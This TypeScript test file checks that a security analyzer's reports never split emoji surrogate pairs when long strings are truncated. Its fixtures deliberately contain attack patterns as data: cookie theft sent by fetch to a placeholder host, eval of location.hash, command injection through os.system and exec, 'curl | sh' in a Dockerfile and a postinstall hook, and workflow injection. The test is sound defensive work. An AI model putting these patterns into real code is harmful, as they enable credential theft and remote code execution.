import { describe, expect, it } from 'vitest';
import { analyze } from './analyze.ts';
import { memoryTree } from './sources/memory.ts';

/** A text of pairs that no bound can cut evenly: with one letter before them or none, one of the two is split. */
const pairs = (letters: number) => `${'x'.repeat(letters)}${'😀'.repeat(400)}`;

/** Things whose every text is longer than what is kept of it. */
function extension(text: string): Record<string, string> {
  const quoted = JSON.stringify(text);
  return {
    'manifest.json': JSON.stringify({
      manifest_version: 3,
      name: text,
      version: text,
      description: text,
      author: text,
      homepage_url: `https://example.com/${text}`,
      permissions: ['tabs', text],
      host_permissions: [`https://${text}/*`],
      background: { service_worker: 'background.js' },
      content_scripts: [{ matches: ['<all_urls>'], js: [`${text.slice(0, 40)}.js`] }],
    }),
    'background.js': `eval(${quoted} + location.hash); fetch('https://stat.example/${text}', { method: 'POST', body: document.cookie + ${quoted} });`,
    'package.json': JSON.stringify({ name: text, version: text, license: text, dependencies: { [text]: text } }),
    LICENSE: text,
  };
}
function repository(text: string): Record<string, string> {
  return {
    'app.py': `from flask import request\nimport os\nos.system("${text}" + request.args["${text}"])\npassword = "${text}"\n`,
    'server.js': `const { exec } = require('child_process'); require('express')().get('/', (req) => exec(req.query['${text}'] + '${text}'));`,
    Dockerfile: `FROM ${text}\nENV SECRET=${text}\nRUN curl http://${text} | sh\n`,
    '.github/workflows/ci.yml': `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \${{ github.event.issue.title }} ${text}\n      - uses: a/${text}@main\n`,
    'package.json': JSON.stringify({
      name: text,
      license: text,
      dependencies: { lodash: '4.17.0' },
      scripts: { postinstall: `curl ${text} | sh` },
    }),
    'requirements.txt': `${text}==1\n`,
    'README.md': text,
  };
}

describe.each([0, 1])('texts of characters of two halves, %i letters before them', (letters) => {
  it.each([
    ['extension', extension],
    ['repository', repository],
  ] as const)('leave no half in the report of an %s', async (kind, make) => {
    const text = pairs(letters);
    const files = make(text);
    // Paths, too: short ones, and one that is longer than what is kept.
    files[`${pairs(letters).slice(0, 80 + letters)}/${Object.keys(files).length}.js`] =
      `document.write(${JSON.stringify(text)} + location)`;
    const analysis = await analyze(memoryTree(files), { kind });
    expect(analysis.findings.length).toBeGreaterThan(2);
    const lone = halvesIn(analysis);
    expect(lone).toEqual([]);
  });
});

/** Where in a value half a character stands. */
function halvesIn(value: unknown, at = ''): string[] {
  if (typeof value === 'string') return value.isWellFormed() ? [] : [`${at}: …${JSON.stringify(value.slice(-20))}`];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, inner]) => [
    ...(key.isWellFormed() ? [] : [`${at} has the key ${JSON.stringify(key.slice(-20))}`]),
    ...halvesIn(inner, `${at}.${key.slice(0, 30)}`),
  ]);
}
